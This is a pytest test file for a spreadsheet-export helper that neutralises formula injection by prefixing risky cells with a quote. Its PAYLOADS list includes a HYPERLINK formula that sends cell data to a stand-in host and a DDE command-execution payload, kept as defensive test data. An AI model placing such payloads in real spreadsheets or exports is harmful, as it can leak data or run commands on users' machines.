"""Formula neutralisation of spreadsheet text (output/cells.py)."""

from __future__ import annotations

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from geoprestatie.output.cells import FORMULA_START, is_formula_like, safe_column, safe_text

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1",
    "  =1+1",
    "＝1+1",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_payload_is_neutralised(payload: str) -> None:
    assert is_formula_like(payload)
    out = safe_text(payload)
    assert out == "'" + payload  # the text itself is kept, behind one quote


@pytest.mark.parametrize("text", ["Vathorst", "a=b", "3 - 1", "", "'al gequote", "Zuid-Oost"])
def test_ordinary_text_is_unchanged(text: str) -> None:
    assert not is_formula_like(text)
    assert safe_text(text) == text


def test_non_text_is_untouched() -> None:
    assert safe_text(-1) == -1 and safe_text(None) is None and safe_text(2.5) == 2.5


@given(st.text(max_size=20))
def test_safe_text_never_starts_a_formula(text: str) -> None:
    out = safe_text(text)
    assert not is_formula_like(out)
    assert out.removeprefix("'") == text or out == text
    first = text.lstrip(" \u00a0")[:1]
    assert (out != text) == (first != "" and first in FORMULA_START)


def test_safe_column_only_touches_text_cells() -> None:
    col = pd.Series(["=1", -1, None, "ok", "@x"], dtype=object)
    assert safe_column(col).tolist() == ["'=1", -1, None, "ok", "'@x"]
    numbers = pd.Series([-1.0, 2.0])
    assert safe_column(numbers) is numbers
    typed = safe_column(pd.Series(["+31 6", pd.NA], dtype="string"))
    assert typed.iloc[0] == "'+31 6" and pd.isna(typed.iloc[1])


@given(st.lists(st.one_of(st.none(), st.text(max_size=12)), max_size=20))
def test_safe_arrow_is_safe_text(values: list[str | None]) -> None:
    import pyarrow as pa

    from geoprestatie.output.cells import safe_arrow

    assert safe_arrow(pa.array(values, type=pa.string())).to_pylist() == [
        safe_text(v) for v in values
    ]
